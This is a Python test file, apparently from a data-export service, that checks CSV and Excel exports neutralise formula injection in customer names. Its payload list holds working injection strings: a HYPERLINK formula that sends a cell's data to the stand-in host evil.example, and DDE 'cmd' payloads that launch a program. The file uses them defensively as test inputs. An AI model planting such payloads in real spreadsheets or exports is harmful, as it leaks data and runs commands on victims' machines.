"""DATA-5 / OPS-8 (issue 12, defect 2): no export hands a spreadsheet a live formula. A
customer whose name starts with ``= + - @ \\t \\r`` comes out as text in CSV and Excel."""

from __future__ import annotations

import csv
import io

import pytest
from openpyxl import load_workbook
from sqlalchemy import text

from safegrid.datause import exports
from safegrid.datause.export_files import FORMULA_TRIGGERS, write_csv, write_xlsx
from safegrid.datause.schemas import ExportCreate
from safegrid.security.policy import Post
from tests.fixtures.world import World

PAYLOADS = {
    "=": '=HYPERLINK("http://evil.example/?"&D3,"点击")',
    "+": "+1+cmd|' /C calc'!A0",
    "-": "-2+3",
    "@": "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t": "\t=1+1",
    "\r": "\r=1+1",
}


def _csv_cells(content: bytes) -> list[list[str]]:
    body = content.decode("utf-8-sig")
    # Drop the visible watermark (first line) and the token (last line).
    body = body[body.index("\r\n") + 2 : body.rindex("# safegrid-watermark")]
    return list(csv.reader(io.StringIO(body, newline="")))


@pytest.mark.parametrize("prefix", FORMULA_TRIGGERS, ids=repr)
def test_data_5_every_trigger_prefix_is_text_in_csv_and_xlsx(prefix: str) -> None:
    value = PAYLOADS[prefix]
    header, rows = ["name", "n"], [[value, 7], ["plain", -3]]
    cells = _csv_cells(write_csv(header, rows, "watermark", "token"))
    assert cells[1][0] == "'" + value  # csv quotes the \r, the reader gives it back
    assert cells[2] == ["plain", "-3"]  # a number is a number, not neutralised text
    ws = load_workbook(io.BytesIO(write_xlsx("t", header, rows, "watermark", "token"))).active
    assert ws is not None
    cell = ws.cell(row=3, column=1)
    # XML turns a stored \r into \n on reading; what matters is the apostrophe first.
    assert cell.data_type == "s" and cell.value == "'" + value.replace("\r", "\n")
    assert ws.cell(row=4, column=2).value == -3


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_data_5_customer_export_neutralises_names(world: World, fmt: str) -> None:
    """Through the export service, as the black-box test did it: names stored by a legacy
    import or a future form, exported by a manager."""
    manager = world.staff(Post.HALL_MANAGER, "hallA")
    ids = {prefix: world.customer("hallA") for prefix in FORMULA_TRIGGERS}
    with world.platform.engine.begin() as conn:
        for prefix, customer_id in ids.items():
            conn.execute(
                text("UPDATE customers SET name = :n WHERE id = :id"),
                {"n": PAYLOADS[prefix], "id": customer_id},
            )
    file = exports.do_export_customers(
        world.platform.uow(world.actor(manager)), ExportCreate(format=fmt)
    )
    if fmt == "csv":
        names = [row[1] for row in _csv_cells(file.content)[1:]]
    else:
        ws = load_workbook(io.BytesIO(file.content)).active
        assert ws is not None
        names = [str(c.value) for c in ws["B"][2:]]
        assert all(c.data_type == "s" for c in ws["B"][2:])
    expected = ("'" + p for p in PAYLOADS.values())
    if fmt == "xlsx":
        expected = (p.replace("\r", "\n") for p in expected)
    assert sorted(names) == sorted(expected)
